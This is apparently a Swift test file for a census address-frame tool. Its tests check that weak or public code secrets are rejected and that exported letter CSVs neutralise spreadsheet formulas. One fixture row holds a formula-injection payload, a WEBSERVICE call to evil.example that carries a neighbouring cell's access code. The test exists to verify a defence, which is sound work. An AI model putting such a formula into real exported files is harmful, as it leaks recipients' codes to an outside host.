import CensusTestSupport
import Foundation
import XCTest
@testable import AddressFrame

/// Secrets that are not secret, and letters cells a spreadsheet would run, from the command
/// line (issue 13; the library's rules are tested in AddressFrameTests/SecretsAndCSVTests).
final class SecretsAndCSVCommandTests: XCTestCase {
    func testCLIRefusesWeakAndPublicSecretsAndStatsShowsADevelopmentFrame() throws {
        let dir = try makeTempDirectory(self)
        XCTAssertEqual(try census(["frame", "generate", "--households", "20", "--out", "fr"], in: dir).status, 0)
        let nul = dir.appendingPathComponent("nul-secret")
        try Data(count: 32).write(to: nul)
        for (env, expected) in [(["CENSUS_CODE_SECRET": String(repeating: "a", count: 32)], "is not random enough"),
                                (["CENSUS_CODE_SECRET": String(repeating: " ", count: 32)], "is not random enough"),
                                (["CENSUS_CODE_SECRET_FILE": nul.path], "is not random enough"),
                                (["CENSUS_CODE_SECRET": "census-development-secret-DO-NOT-USE-IN-PRODUCTION"], "is the public development secret")] {
            let r = try census(["frame", "codes", "issue", "--dir", "fr", "--letters", "l.csv"], in: dir, environment: env)
            XCTAssertEqual(r.status, 2, "\(env)")
            XCTAssertEqual(r.messageLines.count, 1, r.stderr)
            XCTAssertTrue(r.stderr.contains(expected), r.stderr)
        }
        XCTAssertFalse(FileManager.default.fileExists(atPath: dir.appendingPathComponent("l.csv").path))
        var stats = try census(["frame", "stats", "--dir", "fr"], in: dir)
        XCTAssertTrue(stats.stdout.contains("access-code secret: none recorded yet"), stats.stdout)

        let issued = try census(["frame", "codes", "issue", "--dir", "fr", "--letters", "l.csv", "--dev-secret"], in: dir)
        XCTAssertEqual(issued.status, 0)
        XCTAssertTrue(issued.stderr.hasPrefix("census frame codes issue: warning: using the public development secret"), issued.stderr)
        stats = try census(["frame", "stats", "--dir", "fr"], in: dir)
        XCTAssertTrue(stats.stdout.contains("access-code secret: the PUBLIC DEVELOPMENT SECRET (--dev-secret)"), stats.stdout)
        // Later, with the deployment's secret: the mismatch says the frame is tied to the public one.
        let code = CSV.parse(try Data(contentsOf: dir.appendingPathComponent("l.csv"))).records[1].fields[2]
        let lookup = try census(["frame", "lookup", "--dir", "fr", code], in: dir, environment: ["CENSUS_CODE_SECRET": testSecretText()])
        XCTAssertEqual(lookup.status, 2)
        XCTAssertTrue(lookup.stderr.contains("This frame's codes were issued with the PUBLIC DEVELOPMENT SECRET (--dev-secret)"), lookup.stderr)
    }

    func testLettersNeverCarryAFormulaBesideTheCode() throws {
        let dir = try makeTempDirectory(self)
        let header = "household_id,address_line_1,address_line_2,address_line_3,postcode,output_area,lsoa,local_authority\n"
        let row = "H1,\"=WEBSERVICE(\"\"http://evil.example/?c=\"\"&C2)\",@x,+1 Street,LS1 5NF,E00000001,E01000001,E08000035\n"
        try Data((header + row).utf8).write(to: dir.appendingPathComponent("f.csv"))
        XCTAssertEqual(try census(["frame", "import", "f.csv", "--out", "fr"], in: dir).status, 0)
        XCTAssertEqual(try census(["frame", "codes", "issue", "--dir", "fr", "--letters", "l.csv", "--dev-secret"], in: dir).status, 0)
        let text = try String(contentsOf: dir.appendingPathComponent("l.csv"), encoding: .utf8)
        let cells = CSV.parse(Data(text.utf8)).records[1].fields
        XCTAssertEqual(cells[3], "'=WEBSERVICE(\"http://evil.example/?c=\"&C2)")
        XCTAssertEqual(cells[4], "'@x")
        XCTAssertEqual(cells[5], "'+1 Street")
        for cell in cells { XCTAssertFalse(CSV.formulaTriggers.contains(cell.first ?? "a"), cell) }
    }
}
